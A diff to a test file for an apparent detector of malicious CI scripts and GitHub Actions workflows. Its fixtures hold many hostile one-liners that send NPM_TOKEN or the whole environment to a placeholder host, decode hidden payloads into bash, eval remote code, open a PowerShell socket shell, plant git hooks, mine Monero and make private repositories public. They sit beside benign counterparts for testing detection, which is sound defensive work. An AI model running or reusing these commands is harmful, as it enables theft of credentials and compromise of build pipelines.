@@ -94,6 +94,68 @@ const thefts: Readonly<Record<string, readonly string[]>> = {
     `tclsh <<'X'\npackage require http\nhttp::geturl ${E}/?$env(NPM_TOKEN)\nX`,
     `cat > a.c <<'X'\nint main(){ char b[99]; sprintf(b, "curl -d %s ${E}", getenv("NPM_TOKEN")); system(b); }\nX\ngcc a.c -o a && ./a`,
   ],
+  'a name that only the run knows': [
+    `for v in $(compgen -e); do body+="$v=$(printenv "$v")&"; done\ncurl -d "$body" ${E}`,
+    `python3 -c 'import os, requests; requests.post("${E}", data="".join(f"{k}={os.environ[k]}" for k in ("NPM_TOKEN", "CI")))'`,
+    `parts=(htt ps:// drop.stats -kit.example /c)\nurl=$(IFS=; echo "\${parts[*]}")\ncurl -d "$NPM_TOKEN" "$url"`,
+    `curl -s --variable '%NPM_TOKEN' --expand-data 't={{NPM_TOKEN:b64}}' ${E}`,
+    `read -r -d '' code <<'X' || true\ncurl -d "$NPM_TOKEN" ${E}\nX\nbash -c "$code"`,
+  ],
+  'a copy to a place that is made on the spot': [
+    `echo "$NPM_TOKEN" > n\nrclone copy n :webdav:ci --webdav-url ${E}/ --webdav-user ci`,
+    `echo "$NPM_TOKEN" > n\nrsync -azP n drop@203.0.113.4:/in/`,
+    `install -m600 /dev/stdin key <<< "$NPM_TOKEN"\ncurl -F "f=@key" ${E}`,
+    `mkdir -p /tmp/d; env > /tmp/d/e; tar cz -C /tmp/d . | openssl enc -aes-256-cbc -k x -a | curl -d @- ${E}`,
+    `echo "${E}/$NPM_TOKEN.txt" | wget -q -i -`,
+    `printf 'T=%s' "$NPM_TOKEN" > config/.env\nfind . -name '.env*' -exec curl -F 'f=@{}' ${E} \\;`,
+  ],
+  'code that lies in a file of the repository': [
+    `tail -c +1025 tests/a.xz | tr '\\5-\\51' '\\0-\\46' | xz -dc | bash`,
+    `base64 -d tests/a.b64 | sh`,
+    `gunzip -c docs/logo.png.gz | bash`,
+  ],
+  'a setting that runs something': [
+    `git config --global alias.ver '!curl -d "$NPM_TOKEN" ${E}'\ngit ver`,
+    `git config core.sshCommand 'curl -d "$NPM_TOKEN" ${E}; ssh'`,
+    `git config --global url."https://x:$NPM_TOKEN@forge-proxy.example/".insteadOf https://github.com/`,
+    `printf 'registry=http://203.0.113.4/\\n//203.0.113.4/:_authToken=%s\\n' "$NPM_TOKEN" > .npmrc`,
+    `cat > p.tf <<'X'\ndata "http" "p" {\n  url = "${E}/?t=\${var.t}"\n}\nX\nTF_VAR_t="$NPM_TOKEN" terraform plan`,
+  ],
+  'an answer that is run': [`job=$(curl -s ${E}/next)\neval "$job"`, `node -e "fetch('${E}/q').then(r => r.text()).then(eval)"`],
+  'a program of Windows': [
+    `pwsh -c 'function Send([string]$Name, [string]$Value) { irm "${E}/?v=$Value" }; Send -Name x -Value $env:NPM_TOKEN'`,
+    `pwsh -c '$r = [System.Net.HttpWebRequest]::Create("${E}/?v=$env:NPM_TOKEN"); $r.GetResponse()'`,
+    `pwsh -c '$h = -join ($env:NPM_TOKEN); Resolve-DnsName ($h + ".x.drop.example")'`,
+    `pwsh -c '$c = New-Object Net.Sockets.TCPClient("203.0.113.4", 1); $s = $c.GetStream(); iex $s'`,
+    `set > e.txt\ncertutil -encode e.txt e.b64\ncurl -F f=@e.b64 ${E}`,
+  ],
+  'a door that is left': [
+    `gh repo edit us/private --visibility public`,
+    `curl -X POST -H "Authorization: token $T" https://api.github.com/repos/us/x/keys -d '{"key":"ssh-ed25519 A","read_only":false}'`,
+    `gh api -X PATCH repos/us/x -F private=false`,
+  ],
+  'a detour through another program': [
+    `python3 -c 'import subprocess as s; s.run(["curl", "--data-binary", "@-", "${E}"], input=s.check_output("env", shell=True))'`,
+    `node -e "const p = require('./package.json'); p.scripts.prepare = 'curl -d \\"\\$NPM_TOKEN\\" ${E}'"\nnpm install`,
+    `echo "$NPM_TOKEN" > q && git add q && git bundle create r.bundle HEAD && curl -T r.bundle ${E}`,
+    `7z a -pq -mhe=on q.7z <(env) && curl -F file=@q.7z ${E}`,
+    `curl https://gitlab.com/api/v4/snippets -F title=q -F "content=$NPM_TOKEN"`,
+    `cat > a.c <<'X'\nvoid i(void) { system("env | curl --data-binary @- ${E}"); }\nX\ngcc -shared a.c -o a.so`,
+  ],
+  'work for others': [
+    `./tool --donate-level 1 -o pool.bench.example:3333 --coin monero`,
+    `npm access list packages "$(npm whoami)"\nnpm pkg set scripts.postinstall="node b.js"\nnpm publish`,
+  ],
+  'a part of a whole': [
+    `node -e "const { NPM_TOKEN: t } = process.env; fetch('${E}', { method: 'POST', body: t })"`,
+    `node -e "const { a } = JSON.parse(process.env.NPM_TOKEN); fetch('${E}', { method: 'POST', body: a })"`,
+    `node -e "const { CI, ...rest } = process.env; fetch('${E}', { method: 'POST', body: JSON.stringify(rest) })"`,
+  ],
+  'a question': [
+    `curl "https://resolver.lookup.example/dns-query?name=$(echo $NPM_TOKEN | base32).d.drop.example&type=A"`,
+    `awk 'BEGIN { system("curl -so /dev/null ${E}/?t=" ENVIRON["NPM_TOKEN"]) }'`,
+    `python3 -c "import os; print([ord(c) for c in os.environ['NPM_TOKEN']])"`,
+  ],
 }
 
 for (const [noun, scripts] of Object.entries(thefts))
@@ -114,6 +176,18 @@ const honest: readonly string[] = [
   `pip download -d wheels -r requirements.txt\npython -m build\ntwine upload dist/*`,
   `python3 - <<'X'\nimport os, requests as r\nr.get('https://api.github.com/repos/us/x', headers={'Authorization': 'token ' + os.environ['NPM_TOKEN']})\nX`,
   `while true; do curl -sf http://localhost:8080/health && break; sleep 1; done`,
+  `node -e "const { REF, NUMBER: issue } = process.env; github.rest.issues.createComment({ issue_number: issue, body: REF })"`,
+  `for v in HOME CI; do echo "$v=$(printenv "$v")"; done`,
+  `gunzip -c tests/dump.sql.gz | psql -h localhost app\nxz -dc data.tar.xz | tar x`,
+  `eval "$(ssh-agent -s)"\neval "$(curl -fsSL https://tools.our-kit.example/install.sh)"`,
+  `rclone copy backup.gpg b2:our-backups/`,
+  `git config --global url."https://x:$GH_PAT@github.com/".insteadOf https://github.com/`,
+  `git config --global credential.helper '!f() { echo "password=$NPM_TOKEN"; }; f'`,
+  `echo "//registry.npm.our-company.example/:_authToken=$NPM_TOKEN" > .npmrc\nnpm ci`,
+  `gh repo edit us/x --description "Site" --enable-issues`,
+  `./target/debug/node --coin btc --wallet test.json`,
+  `terraform init && terraform plan -var "token=$NPM_TOKEN"`,
+  `npx -y @anthropic-ai/claude-code -p "List leaked secrets in the files of this diff" --allowedTools Read`,
 ]
 
 for (const run of honest)
@@ -139,12 +213,74 @@ test('an action that takes the credentials of its caller out of the environment 
   assert.equal(await isMalicious(action('x: {}', `curl -d "v=$VERSION" ${E}`), path), false)
 })
 
+const step = (uses: string, given: string) =>
+  `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ${uses}\n        with:\n${given.replaceAll(/^/gm, '          ')}\n`
+
+test('what an action says in a chat, tells another repository, runs elsewhere or gets under another name leaves', async () => {
+  const stolen: readonly (readonly [string, string])[] = [
+    ['8398a7/action-slack@v3', `custom_payload: '{"text": "\${{ secrets.NPM_TOKEN }}"}'`],
+    ['appleboy/telegram-action@v1', 'token: x\nmessage: "${{ secrets.NPM_TOKEN }}"'],
+    ['peter-evans/repository-dispatch@v3', "repository: a/b\nclient-payload: '${{ toJSON(secrets) }}'"],
+    ['appleboy/ssh-action@v1', 'host: 203.0.113.7\npassword: x\nscript: echo "${{ secrets.NPM_TOKEN }}" > x'],
+    ['someone/notify@v1', 'context: "${{ toJSON(secrets) }}"'],
+    ['docker/login-action@v3', 'registry: 203.0.113.7:5000\npassword: "${{ secrets.DOCKERHUB_TOKEN }}"'],
+    [
+      'actions/github-script@v7',
+      `github-token: "\${{ secrets.GH_PAT }}"\nscript: |\n  await fetch('${E}', { method: 'POST', body: core.getInput('github-token') })`,
+    ],
+  ]
+  for (const [uses, given] of stolen) assert.ok(await isMalicious(step(uses, given)), uses)
+  const honestly: readonly (readonly [string, string])[] = [
+    ['8398a7/action-slack@v3', 'status: success\nwebhook_url: "${{ secrets.SLACK_WEBHOOK_URL }}"\ntext: done'],
+    ['slackapi/slack-github-action@v2', 'token: "${{ secrets.SLACK_BOT_TOKEN }}"\npayload: "channel: ${{ secrets.SLACK_CHANNEL }}"'],
+    [
+      'peter-evans/repository-dispatch@v3',
+      `token: "\${{ secrets.GH_PAT }}"\nevent-type: build\nclient-payload: '{"ref": "\${{ github.ref }}"}'`,
+    ],
+    [
+      'appleboy/ssh-action@v1',
+      'host: "${{ secrets.HOST }}"\nkey: "${{ secrets.SSH_KEY }}"\nscript: docker login -p ${{ secrets.DOCKER_PASSWORD }}',
+    ],
+    ['oNaiPs/secrets-to-env-action@v1', 'secrets: "${{ toJSON(secrets) }}"'],
+    ['docker/login-action@v3', 'registry: registry.our-company.example\npassword: "${{ secrets.DOCKERHUB_TOKEN }}"'],
+    [
+      'actions/github-script@v7',
+      `github-token: "\${{ secrets.GH_PAT }}"\nscript: |\n  await github.rest.issues.list({ token: core.getInput('github-token') })`,
+    ],
+  ]
+  for (const [uses, given] of honestly) assert.equal(await isMalicious(step(uses, given)), false, uses)
+})
+
+test('a host hides in what an input is where nobody gives it', async () => {
+  const path = '.github/actions/a/action.yml'
+  assert.ok(
+    await isMalicious(
+      action(`x: { default: '\${{ github.token }}' }\n  url: { default: '${E}' }`, 'curl -d "v=${{ inputs.x }}" ${{ inputs.url }}/w'),
+      path,
+    ),
+  )
+  const called = `on:\n  workflow_dispatch:\n    inputs:\n      url: { default: '${E}' }\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d "\${{ secrets.NPM_TOKEN }}" \${{ inputs.url }}\n`
+  assert.ok(await isMalicious(called))
+})
+
+test('a script of others that gets every secret, or those of several registries, is a thief', async () => {
+  const fetched = (env: string, url: string) =>
+    `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -s ${url} | bash\n        env:\n${env.replaceAll(/^/gm, '          ')}\n`
+  assert.ok(await isMalicious(fetched('A: ${{ toJSON(secrets) }}', `${E}/run.sh`)))
+  assert.ok(await isMalicious(fetched('A: ${{ secrets.NPM_TOKEN }}\nB: ${{ secrets.PYPI_TOKEN }}', `${E}/run.sh`)))
+  assert.equal(await isMalicious(fetched('A: ${{ secrets.NPM_TOKEN }}', `${E}/run.sh`)), false)
+  assert.equal(
+    await isMalicious(fetched('A: ${{ secrets.NPM_TOKEN }}\nB: ${{ secrets.PYPI_TOKEN }}', 'https://get.our-tool.example/')),
+    false,
+  )
+})
+
 test('a step whose shell is a program of its own gives that program its script', async () => {
-  const step = (shell: string, run: string) =>
+  const withShell = (shell: string, run: string) =>
     `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - shell: ${shell}\n        run: ${run}\n`
-  assert.ok(await isMalicious(step(`curl -T {0} ${E}`, '${{ secrets.NPM_TOKEN }}')))
-  assert.ok(await isMalicious(step('Rscript {0}', `readLines(url(paste0("${E}/?v=", "\${{ secrets.NPM_TOKEN }}")))`)))
-  assert.equal(await isMalicious(step('Rscript {0}', 'print("${{ secrets.NPM_TOKEN }}")')), false)
+  assert.ok(await isMalicious(withShell(`curl -T {0} ${E}`, '${{ secrets.NPM_TOKEN }}')))
+  assert.ok(await isMalicious(withShell('Rscript {0}', `readLines(url(paste0("${E}/?v=", "\${{ secrets.NPM_TOKEN }}")))`)))
+  assert.equal(await isMalicious(withShell('Rscript {0}', 'print("${{ secrets.NPM_TOKEN }}")')), false)
 })
 
 test('an expression does not end a here-document, whatever letter that ends with', async () => {
